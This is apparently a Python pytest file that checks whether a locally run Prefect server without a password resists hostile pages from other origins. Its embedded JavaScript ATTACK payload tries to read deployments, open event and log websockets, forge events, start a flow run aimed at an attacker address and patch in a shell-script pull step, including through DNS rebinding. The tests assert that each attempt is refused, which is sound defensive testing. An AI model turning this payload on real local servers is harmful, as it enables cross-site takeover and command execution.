"""Pages of other servers, open in a real browser while Prefect's server runs without a password: what they try to have it do."""

import json
import threading
import time
import uuid
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from tests.support.browser import browser
from tests.support.orchestrator import with_database
from tests.support.parts import Part, answers, free_ports
from tests.support.served import Served

pytestmark = pytest.mark.timeout(600)

EVIL = "evil.example"

ATTACK = """
const done = arguments[arguments.length - 1], [base, deployment, mine] = arguments;
const said = {};
const socket = (path, protocols, words) => new Promise(over => {
  const line = new WebSocket(base.replace("http", "ws") + path, protocols);
  line.onopen = () => { words.forEach(one => line.send(JSON.stringify(one))); setTimeout(() => over("open"), 1500); };
  line.onerror = () => over("refused");
});
const ask = (path, how) => fetch(base + path, how).then(
  answer => how.mode == "no-cors" ? "sent" : answer.text().then(text => `${answer.status} ${text}`), () => "refused");
const form = (path, value) => ask(path, {method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(value)])});
const filter = {type: "filter", filter: {occurred: {since: "2020-01-01T00:00:00Z", until: "2090-01-01T00:00:00Z"}}};
const event = {occurred: new Date().toISOString(), event: "fer.drift.detected", resource: {"prefect.resource.id": "fer.labels." + mine}};
(async () => {
  said.read = await ask("/api/deployments/" + deployment, {});
  said.health = await ask("/api/health", {});
  said.events = await socket("/api/events/out", [], [filter]);
  said.events_as_prefect = await socket("/api/events/out", ["prefect"], [{type: "auth", token: null}, filter]);
  said.forged = await socket("/api/events/in", [], [event]);
  said.forged_as_prefect = await socket("/api/events/in", ["prefect"], [{type: "auth", token: null}, event]);
  said.logs = await socket("/api/logs/out", ["prefect"], []);
  const attacker = {params: {cluster: {kind: "address", address: "tcp://203.0.113.1:8786"}}};
  said.run = await form(`/api/deployments/${deployment}/create_flow_run`, {parameters: attacker});
  said.variable = await form("/api/variables/", {name: mine, value: 1});
  said.event = await form("/api/events", [event]);
  said.patch = await ask(`/api/deployments/${deployment}`, {method: "PATCH", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({pull_steps: [{"prefect.deployments.steps.run_shell_script": {script: "id"}}]})});
  done(said);
})().catch(error => done({error: String(error)}));
"""


@contextmanager
def page(host="127.0.0.1"):
    """A server with empty pages, of which one has the origin `null`; its port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "0")
            if self.path == "/sandboxed":
                self.send_header("Content-Security-Policy", "sandbox allow-scripts")
            self.end_headers()

        def log_message(self, *words):
            pass

    with ThreadingHTTPServer((host, 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server.server_port
        finally:
            server.shutdown()


@pytest.fixture(scope="module")
def served(prefect_database, tmp_path_factory):
    """Prefect's server with its pages as `ferflow up --no-password` starts it, and one deployment."""
    base, port = tmp_path_factory.mktemp("foreign").resolve(), free_ports(("server",))["server"]
    settings = {"PREFECT_SERVER_UI_API_URL": "/api", "DO_NOT_TRACK": "1", "PREFECT_SERVER_ANALYTICS_ENABLED": "false"}
    settings["PREFECT_SERVER_UI_STATIC_DIRECTORY"] = str(base / "pages")
    part = Part(base, "server", uuid.uuid4().hex, settings)
    with_database(part.folder / "home", prefect_database)
    with ExitStack() as stack:
        stack.callback(part.stop)
        words = ("--factory", "flows.server.application:create_app", "--host", "127.0.0.1", "--port", port, "--log-level", "warning")
        part.start("python", "-P", "-m", "uvicorn", *words)
        part.wait_for(lambda: answers(f"http://127.0.0.1:{port}/api/health"))
        found = Served(part.process, {"url": f"http://127.0.0.1:{port}"})
        _, flow = found.call("POST", "/flows/", {"name": "label-collection"})
        status, deployment = found.call("POST", "/deployments/", {"name": "nightly", "flow_id": flow["id"]})
        assert status in (200, 201), deployment
        yield found, deployment["id"]


@pytest.fixture(scope="module")
def attacks(served, tmp_path_factory):
    """What pages of several origins were answered, by the name of the page's host."""
    up, deployment = served
    port, found = urlsplit(up.url).port, {}
    with (
        page() as other_port,
        page("127.0.0.2") as other_address,
        browser(tmp_path_factory.mktemp("evil"), f"--host-resolver-rules=MAP {EVIL} 127.0.0.1") as driver,
    ):
        driver.set_script_timeout(120)
        pages = {
            "another port": (f"http://127.0.0.1:{other_port}/", up.url),
            "another loopback name": (f"http://127.0.0.2:{other_address}/", up.url),
            "another name": (f"http://{EVIL}:{other_port}/", up.url),
            "a page without an origin": (f"http://127.0.0.1:{other_port}/sandboxed", up.url),
            "rebound": (f"http://{EVIL}:{port}/api/health", f"http://{EVIL}:{port}"),
        }
        for name, (here, there) in pages.items():
            driver.get(here)
            found[name] = driver.execute_async_script(ATTACK, there, deployment, name.replace(" ", "-"))
        driver.get(f"http://{EVIL}:{port}/v2/")
        found["rebound"]["page"] = driver.find_element("tag name", "body").text
        for name in ("/flows", "/v2/flows"):
            driver.get(up.url + name)
            found[name] = {"page": text_with(driver, "label-collection")}
    return found


def text_with(driver, words):
    """What the page says once these words are there."""
    deadline = time.monotonic() + 120
    while words not in (text := driver.execute_script("return document.body?.innerText || ''")):
        assert time.monotonic() < deadline, text
        time.sleep(0.2)
    return text


def of_foreign(attacks):
    return [(name, said) for name, said in attacks.items() if not name.startswith("/")]


def test_pages_are_told_nothing(attacks):
    for name, said in of_foreign(attacks):
        assert "error" not in said, (name, said)
        for what in ("read", "health", "patch"):
            assert said[what] == "refused" or said[what].startswith("403 ferflow: this server does not accept"), (name, what, said[what])


def test_no_line_is_opened(attacks):
    for name, said in of_foreign(attacks):
        lines = {what: said[what] for what in ("events", "events_as_prefect", "forged", "forged_as_prefect", "logs")}
        assert set(lines.values()) == {"refused"}, (name, lines)


def test_both_interfaces_of_its_own_work(attacks):
    """They ask for the list in a POST, with the token."""
    assert "label-collection" in attacks["/flows"]["page"]
    assert "label-collection" in attacks["/v2/flows"]["page"]


def test_a_name_that_was_rebound_shows_no_pages(attacks):
    assert f"--allow-host {EVIL}" in attacks["rebound"]["page"]


def test_nothing_was_done(attacks, served):
    up, deployment = served
    assert up.call("POST", "/flow_runs/filter", {})[1] == []
    assert up.call("POST", "/variables/filter", {})[1] == []
    assert not up.call("GET", f"/deployments/{deployment}")[1]["pull_steps"]
    mine = {
        "event": "fer.of.ours",
        "occurred": "2026-01-01T00:00:00Z",
        "resource": {"prefect.resource.id": "ours"},
        "id": str(uuid.uuid4()),
    }
    assert up.call("POST", "/events", [mine])[0] == 204
    seen = events(up)
    assert not [one for one in seen if one.startswith("fer.drift")]


def events(up):
    """Names of all there are, once ours is among them: it came last."""
    wanted = {"filter": {"occurred": {"since": "2020-01-01T00:00:00Z", "until": "2090-01-01T00:00:00Z"}, "event": {"prefix": ["fer."]}}}
    deadline = time.monotonic() + 60
    while "fer.of.ours" not in (seen := [one["event"] for one in up.call("POST", "/events/filter", wanted)[1]["events"]]):
        assert time.monotonic() < deadline, seen
        time.sleep(0.2)
    return seen


def test_what_the_answer_says(served):
    up, _ = served
    for headers in ({"Host": EVIL}, {"Origin": f"http://{EVIL}"}):
        status, text = plain(up.url, headers)
        assert status == 403
        assert f"ferflow up --allow-host {EVIL}" in text
    assert plain(up.url, {})[0] == 200


def test_changes_need_the_token_that_only_its_own_pages_have(served):
    up, _ = served
    status, text = plain(up.url, {}, b'{"name": "x", "value": 1}', "/api/variables/")
    assert (status, json.loads(text)) == (403, {"detail": "Missing CSRF token."})


def plain(url, headers, body=None, path="/api/health"):
    """Status and text, for requests as a page's without a token."""
    import http.client

    parts = urlsplit(url)
    line = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        line.request("GET" if body is None else "POST", path, body, headers)
        answer = line.getresponse()
        return answer.status, answer.read().decode()
    finally:
        line.close()
